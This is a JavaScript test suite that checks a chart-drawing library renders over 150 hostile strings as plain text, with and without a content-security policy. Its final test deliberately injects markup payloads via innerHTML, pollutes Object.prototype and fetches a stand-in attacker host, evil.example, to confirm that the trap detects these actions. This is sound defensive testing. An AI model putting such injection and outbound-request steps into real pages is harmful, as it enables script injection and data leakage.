/* Strings that would run, fetch, hide or break something, as every text of a plan and of a table. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { BATCHES, HARMLESS, STRINGS, UNWRITABLE, WRITABLE, assertNothingHappened, drawAll, planOf, trap, wrongOf } from "./lib/hostile.mjs";
import { pages } from "./lib/pages.mjs";
import { POLICY } from "./lib/policy.mjs";

const open = pages();
const POLICIES = { "under the strictest policy": { "content-security-policy": POLICY }, "without a policy": {} };

/** An empty page in which nothing may happen, then what happened in it. */
const quiet = async (headers, act) => {
  const told = [];
  const context = { viewport: { width: 1280, height: 3000 } };
  const { page, violations } = await open("<h1>計画</h1>", { headers, context, prepare: (page) => trap(page, told) });
  await act(page);
  assert.deepEqual(violations, []);
  await assertNothingHappened(page, told);
};

const ofPlan = (kind, texts) => {
  const plan = planOf(texts);
  const options = { kind, plan: kind === "compare" ? [plan, plan] : plan, ...(kind === "trend" && { indicator: "x0" }) };
  return { options, texts };
};

/** The kinds that show many things of a plan side by side. */
const KINDS = ["achievement", "schedule", "steps", "ratings", "breakdown", "outline", "compare", "viewer"];

test("there are at least 150 strings, each of them once", () => {
  assert.ok(STRINGS.length >= 150, `${STRINGS.length}`);
  assert.equal(new Set(STRINGS).size, STRINGS.length);
});

for (const [how, headers] of Object.entries(POLICIES)) {
  test(`${how}, the trend of a plan shows each string as text, and nothing else happens`, () =>
    quiet(headers, async (page) => {
      const cases = (texts) => texts.map((text) => ofPlan("trend", [text]));
      const { results, usual } = await drawAll(page, cases(HARMLESS), cases(WRITABLE));
      assert.ok(usual > 20, "there is something to compare with");
      assert.equal(results.length, WRITABLE.length);
      assert.deepEqual(wrongOf(results), []);
    }));

  test(`${how}, every other kind and the viewer show each string as text, and nothing else happens`, () =>
    quiet(headers, async (page) => {
      for (const kind of KINDS) {
        const harmless = [...HARMLESS.map((text) => [text, text, text]), HARMLESS].map((texts) => ofPlan(kind, texts));
        const { results } = await drawAll(page, harmless, BATCHES.map((texts) => ofPlan(kind, texts)));
        assert.equal(results.length, BATCHES.length);
        assert.deepEqual(wrongOf(results), [], kind);
      }
    }));

  test(`${how}, a table with each string as caption, header, name and cell gives its chart or stays as it was`, () =>
    quiet(headers, async (page) => {
      const rows = (text) => [["指標", "平成27年度", "平成28年度", text], [text, "1", "2", text], ["数", text, "3", "4"]];
      const cases = (texts) => texts.map((text) => ({ block: { name: "div", attributes: { class: "keikaku keikaku-trend" }, table: { caption: text, rows: rows(text) } }, options: {}, texts: [], of: text }));
      const { results } = await drawAll(page, cases(HARMLESS), cases(STRINGS));
      assert.ok(results.some(({ code }) => code === undefined), "some are drawn");
      assert.deepEqual(wrongOf(results, { mayBeRefused: true }), []);
    }));
}

test("a plan with half a character is refused, and the author's content stays", () =>
  quiet({}, async (page) => {
    const { results } = await drawAll(page, [], UNWRITABLE.map((text) => ofPlan("trend", [text])));
    assert.equal(results.length, 4);
    assert.deepEqual(results.map(({ code, isBack }) => [code, isBack]), results.map(() => ["not-json", true]));
  }));

test("the page of these tests does tell what such a string does where it becomes markup", async () => {
  const told = [];
  const { page } = await open("<h1>計画</h1>", { prepare: (page) => trap(page, told) });
  const strings = STRINGS.filter((text) => /^<(img|svg|iframe|details|input)\b/i.test(text));
  await page.evaluate(async (strings) => {
    for (const text of strings) document.body.appendChild(document.createElement("div")).innerHTML = text;
    Object.prototype.polluted = true;
    await fetch("http://evil.example/x").catch(() => {});
    await new Promise((done) => setTimeout(done, 300));
  }, strings);
  assert.ok(told.filter((what) => what === "pwned was called").length >= 5, told.join("\n"));
  assert.ok(told.includes("asked for http://evil.example/x"), told.join("\n"));
  assert.equal(await page.evaluate(() => window.prototypesChanged()), true);
});
